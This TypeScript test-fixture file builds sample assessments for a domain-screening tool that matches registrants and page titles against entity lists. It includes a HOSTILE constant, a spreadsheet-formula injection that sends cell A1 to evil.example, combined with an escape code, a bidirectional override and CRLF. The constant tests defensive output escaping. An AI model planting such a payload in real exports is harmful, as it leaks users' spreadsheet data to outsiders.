import type { AppliedDecision, Assessment } from '../../src/model/assessment.ts';
import type { Evidence, InputRow, Party, Registration, WebPage } from '../../src/model/evidence.ts';
import type { Clue, Fronting, Hit } from '../../src/model/facts.ts';
import type { Finding, Gap } from '../../src/model/finding.ts';
import type { ListEdition } from '../../src/model/lists.ts';
import { absent, type Fault, type Indeterminate, ok, redacted, type Source } from '../../src/model/outcome.ts';

/**
 * Assessments of a pretend harbour town, one for each way in which a row can come out. Built from the model's types, so
 * that a change of the model is met by the compiler; write-fixtures.ts saves them to fixtures/reports.
 */
const AT = '2026-11-23T08:00:00.000Z';
const failed = (fault: Fault, source: Source): Indeterminate => ({ kind: 'failed', fault, source });
const skipped = (why: string): Indeterminate => ({ kind: 'skipped', why });

const dnsSource: Source = { protocol: 'dns', server: '192.0.2.53:53', askedAt: AT };
const rdapSource: Source = { protocol: 'rdap', server: 'https://rdap.example/domain/', askedAt: AT };
const whoisSource: Source = { protocol: 'whois', server: 'whois.example:43', askedAt: AT };
const webSource: Source = { protocol: 'http', server: 'https://northquay-shipping.example/', askedAt: AT };
const listSource: Source = { protocol: 'list', server: 'harbour-list', askedAt: AT };

export const EDITIONS: readonly ListEdition[] = [
  {
    id: 'harbour-list',
    publisher: 'Harbour Town Board',
    title: 'Harbour Town list',
    edition: '2026-11-01',
    entities: 12,
    names: 30,
    sha256: '0'.repeat(64),
    holes: ['no native-script names'],
  },
  {
    id: 'lighthouse-list',
    publisher: 'Lighthouse Authority',
    title: 'Lighthouse list',
    edition: '2026-10-20',
    entities: 7,
    names: 9,
    sha256: '1'.repeat(64),
    holes: [],
  },
];

export const inputRow = (line: number, asked: string, more: Partial<InputRow> = {}): InputRow => ({
  file: 'list.csv',
  line,
  asked,
  declared: null,
  extra: [['ticket', `HT-${line}`]],
  problem: null,
  ...more,
});

export const party = (name: string, organisation: string): Party => ({
  name: ok(name, rdapSource),
  organisation: ok(organisation, rdapSource),
  email: ok('desk@northquay-shipping.example', rdapSource),
  country: ok('NO', rdapSource),
});

const registration = (domain: string, registrant: Registration['registrant']): Registration => ({
  domain,
  status: ok(['client transfer prohibited'], rdapSource),
  registrar: ok('Harbour Names Ltd', rdapSource),
  registrarId: ok('9999', rdapSource),
  registrant,
  createdOn: ok('2015-04-01', rdapSource),
  updatedOn: absent('no such event', rdapSource),
  expiresOn: ok('2027-04-01', rdapSource),
  nameservers: ok(['ns1.harbour-dns.example', 'ns2.harbour-dns.example'], rdapSource),
  sources: [rdapSource, whoisSource],
});

const page = (host: string, title: string): WebPage => ({
  finalUrl: `https://${host}/`,
  status: 200,
  headers: { server: 'cloudflare' },
  cookies: [],
  title: ok(title, webSource),
  body: `<title>${title}</title>`,
  bodySha256: '2'.repeat(64),
  certificate: absent('not asked', webSource),
  address: '203.0.113.5',
  redirects: [],
});

const clue = (seen: string): Clue => ({
  provider: 'cloudflare',
  kind: 'header',
  seen,
  rule: 'server: cloudflare',
  strength: 'strong',
  source: 'https://developers.cloudflare.com/',
  checkedOn: '2026-11-20',
});

export const fronting = (siteTitle: string | null, more: Partial<Fronting> = {}): Fronting => ({
  edges: [{ provider: 'cloudflare', confidence: 0.95, clues: [clue('server: cloudflare')] }],
  proxied: 'yes',
  dnsOperators: ['cloudflare'],
  platform: null,
  host: 'hidden',
  pageKind: 'site',
  pageProvider: null,
  siteTitle,
  notes: [],
  clues: [],
  ...more,
});

export const hit = (more: Partial<Hit> = {}): Hit => ({
  entityId: 'harbour-list:17',
  list: 'harbour-list',
  name: 'GREY HERON TRADING',
  strength: 'primary',
  query: 'Gray Heron Trading Ltd',
  candidate: 'GREY HERON TRADING',
  score: 0.9712,
  field: 'registrant_org',
  programs: ['HARBOUR-1'],
  measure: 'blocking',
  band: 'match',
  words: [{ query: 'gray', candidate: 'grey', how: 'one letter' }],
  notes: ['legal form set aside'],
  sameAs: [],
  url: 'https://lists.example/entry/17',
  ...more,
});

export const finding = (hits: readonly Hit[], more: Partial<Finding> = {}): Finding => ({
  id: 'f-0a1b2c3d4e5f',
  rule: 'listed-registrant',
  severity: 'high',
  confidence: 'high',
  message: 'The registrant resembles a listed entity',
  hits,
  clues: [],
  ...more,
});

/** A domain that is what it seems: known registrant, site behind Cloudflare, no hit, no gap. Everything else varies it. */
export function assessment(line: number, host: string, more: Partial<Assessment> = {}): Assessment {
  const title = 'Northquay Shipping - Harbour services';
  const evidence: Evidence = {
    row: inputRow(line, host),
    domain: { host, registrable: host, registered: host, publicSuffix: 'example' },
    problem: null,
    gatheredAt: AT,
    dns: ok(
      {
        cnames: [],
        ipv4: ok(['203.0.113.5', '203.0.113.6'], dnsSource),
        ipv6: absent('NODATA', dnsSource),
        nameservers: ok(['ns1.harbour-dns.example', 'ns2.harbour-dns.example'], dnsSource),
        soa: ok({ mname: 'ns1.harbour-dns.example', rname: 'desk.harbour-dns.example' }, dnsSource),
      },
      dnsSource,
    ),
    registration: ok(registration(host, ok(party('Ada Pretend', 'Northquay Shipping'), rdapSource)), rdapSource),
    web: ok(page(host, title), webSource),
    reverse: absent('NXDOMAIN', dnsSource),
    origins: ok([{ address: '203.0.113.5', asn: 64500, asName: 'HARBOUR-AS', country: 'NO' }], dnsSource),
  };
  return {
    format: 1,
    evidence,
    fronting: ok(fronting(title), dnsSource),
    verdict: 'clear',
    risk: 'none',
    score: 0,
    findings: [],
    gaps: [],
    accepted: [],
    hits: [],
    decisions: [],
    lists: EDITIONS,
    bug: null,
    auditedAt: AT,
    ...more,
  };
}

export const withEvidence = (base: Assessment, more: Partial<Evidence>): Assessment => ({
  ...base,
  evidence: { ...base.evidence, ...more },
});

export const decision = (more: Partial<AppliedDecision> = {}): AppliedDecision => ({
  finding: 'f-0a1b2c3d4e5f',
  entity: 'harbour-list:17',
  decision: 'false-positive',
  reason: 'another firm: founded 1911',
  by: 'M. Reviewer',
  until: '2027-05-01',
  ...more,
});

const timeout = { code: 'timeout', detail: 'no answer in 10 s', attempts: 3 } as const;
const withheld = redacted<Party>('withheld', 'REDACTED FOR PRIVACY', rdapSource, {
  name: redacted('withheld', 'REDACTED FOR PRIVACY', rdapSource),
  organisation: redacted('withheld', 'REDACTED FOR PRIVACY', rdapSource),
  email: redacted('withheld', 'REDACTED FOR PRIVACY', rdapSource),
  country: ok('IS', rdapSource),
});
const proxy = redacted<Party>('proxy', 'Harbour Privacy Service', whoisSource);

const gap = (fact: Gap['fact'], outcome: Gap['outcome'], rule = 'listed-registrant'): Gap => ({ rule, fact, outcome });
const registrantGap = (outcome: Gap['outcome']): readonly Gap[] => [
  gap('registrant', outcome),
  gap('registrantHits', outcome, 'listed-registrant'),
];
const bare = (how: 'withheld' | 'proxy', note: string): Indeterminate => ({
  kind: 'redacted',
  how,
  note,
  source: rdapSource,
});
const open = { verdict: 'inconclusive', risk: 'unknown', score: null } as const;

function held(line: number, host: string, registrant: Registration['registrant'], more: Partial<Assessment>) {
  return withEvidence(assessment(line, host, more), {
    registration: ok(registration(host, registrant), rdapSource),
  });
}

function nobodyAnswers(line: number, host: string): Assessment {
  const fault = failed(timeout, dnsSource);
  return withEvidence(
    assessment(line, host, {
      ...open,
      fronting: fault,
      gaps: [
        gap('dns', fault),
        ...registrantGap(failed(timeout, rdapSource)),
        gap('title', failed(timeout, webSource)),
      ],
    }),
    { dns: fault, registration: failed(timeout, rdapSource), web: failed(timeout, webSource), origins: fault },
  );
}

function noDomain(line: number): Assessment {
  const none = skipped('not a domain');
  return withEvidence(
    assessment(line, '', {
      ...open,
      fronting: none,
      gaps: [gap('dns', none), gap('registrant', none), gap('title', none)],
    }),
    {
      row: inputRow(line, 'not a domain!'),
      domain: null,
      problem: 'a host name has no spaces',
      dns: none,
      registration: none,
      web: none,
      reverse: none,
      origins: none,
    },
  );
}

function gone(line: number, host: string): Assessment {
  const nx = absent('NXDOMAIN', dnsSource);
  return withEvidence(assessment(line, host, { fronting: nx }), {
    dns: nx,
    registration: absent('404', rdapSource),
    web: nx,
    origins: nx,
  });
}

function challenged(line: number, host: string): Assessment {
  const refused = failed({ code: 'refused', detail: 'a challenge page stands in front', attempts: 1 }, webSource);
  return assessment(line, host, {
    ...open,
    fronting: ok(fronting(null, { pageKind: 'challenge', pageProvider: 'cloudflare' }), dnsSource),
    gaps: [gap('title', refused, 'listed-title'), gap('titleHits', refused, 'listed-title')],
  });
}

/** A stranger's text in every place a stranger can write to. */
export const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"ok")\u001b[31m;=1+1\u202e\r\n|+1';

function hostile(line: number): Assessment {
  const host = 'salt-pier.example';
  const met = hit({ query: HOSTILE, field: 'title', band: 'review', score: 0.81 });
  const base = assessment(line, host, {
    verdict: 'review',
    risk: 'medium',
    score: 60,
    hits: [met],
    findings: [finding([met], { id: 'f-5a17', rule: 'listed-title', severity: 'medium' })],
    fronting: ok(fronting(HOSTILE), dnsSource),
  });
  return withEvidence(base, {
    row: inputRow(line, host, { extra: [['ticket', HOSTILE]] }),
    registration: ok(registration(host, ok(party(HOSTILE, HOSTILE), rdapSource)), rdapSource),
    web: ok(page(host, HOSTILE), webSource),
  });
}

const found = (band: Hit['band'], more: Partial<Assessment> = {}): Partial<Assessment> => {
  const met = hit({ band });
  const high = band === 'match';
  return {
    verdict: high ? 'match' : 'review',
    risk: high ? 'critical' : 'medium',
    score: high ? 97 : 60,
    hits: [met],
    findings: [finding([met], high ? {} : { severity: 'medium', confidence: 'medium' })],
    ...more,
  };
};

const heron = ok(party('Gray Heron', 'Gray Heron Trading Ltd'), rdapSource);
const arabic = hit({
  entityId: 'lighthouse-list:4',
  list: 'lighthouse-list',
  name: 'Harbour Keepers',
  strength: 'native',
  query: 'حراس المرفأ',
  candidate: 'حراس المرفأ',
  score: 1,
  field: 'title',
  programs: [],
  band: 'review',
});

/** One assessment for each way a row can come out, in input order. */
export const HARBOUR: readonly Assessment[] = [
  assessment(2, 'northquay-shipping.example'),
  held(3, 'gray-heron.example', heron, found('match')),
  assessment(4, 'keepers.example', {
    verdict: 'review',
    risk: 'medium',
    score: 70,
    hits: [arabic, hit({ field: 'title', band: 'review', score: 0.82 })],
    findings: [finding([arabic], { id: 'f-77aa', rule: 'listed-title', severity: 'medium' })],
    fronting: ok(fronting('حراس المرفأ | الصفحة الرئيسية'), dnsSource),
  }),
  held(5, 'redacted-harbour.example', withheld, {
    ...open,
    gaps: registrantGap(bare('withheld', 'REDACTED FOR PRIVACY')),
  }),
  held(6, 'proxy-mole.example', proxy, { accepted: registrantGap(bare('proxy', 'Harbour Privacy Service')) }),
  gone(7, 'sunken-barge.example'),
  noDomain(8),
  nobodyAnswers(9, 'silent-pier.example'),
  challenged(10, 'guarded-lock.example'),
  held(
    11,
    'heron-bakery.example',
    heron,
    found('match', { verdict: 'clear', risk: 'none', score: 0, decisions: [decision()] }),
  ),
  held(
    12,
    'heron-lines.example',
    heron,
    found('review', {
      verdict: 'match',
      risk: 'critical',
      score: 97,
      decisions: [decision({ decision: 'confirmed', reason: 'same address and director' })],
    }),
  ),
  assessment(13, 'odd-crane.example', { ...open, bug: 'cannot read the tide table', gaps: [] }),
  hostile(14),
  assessment(15, 'old-lists.example', {
    ...open,
    gaps: [gap('lists', failed({ code: 'stale', detail: 'edition of 2025-01-01', attempts: 0 }, listSource))],
  }),
  assessment(16, 'dns-only.example', {
    fronting: ok(
      fronting('Dry dock', {
        edges: [],
        proxied: 'no',
        dnsOperators: ['cloudflare'],
        host: 'hetzner',
        platform: 'wordpress-com',
      }),
      dnsSource,
    ),
  }),
];

/** The assessments as a format takes them. */
export async function* stream(assessments: readonly Assessment[] = HARBOUR): AsyncGenerator<Assessment> {
  yield* assessments;
}
